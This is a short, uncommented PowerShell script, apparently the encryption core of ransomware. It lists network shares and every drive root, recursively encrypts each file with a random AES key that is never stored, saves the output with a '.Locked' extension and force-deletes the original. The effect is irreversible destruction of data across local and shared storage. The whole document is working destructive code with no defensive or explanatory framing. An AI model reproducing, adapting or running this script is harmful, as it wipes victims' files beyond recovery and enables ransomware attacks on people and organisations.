$targets = (Get-SmbShare | Where-Object { $_.Name -notmatch '\$$' }).Path + (Get-PSDrive -PSProvider FileSystem).Root
foreach ($t in $targets) {
  Get-ChildItem $t -Recurse -File -ErrorAction SilentlyContinue | ForEach-Object {
    $k = New-Object byte[] 32; [Security.Cryptography.RandomNumberGenerator]::Create().GetBytes($k)
    $aes = [Security.Cryptography.Aes]::Create(); $aes.Key = $k
    $data = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($data, 0, $data.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.Locked', $enc); Remove-Item $_.FullName -Force
  }
}
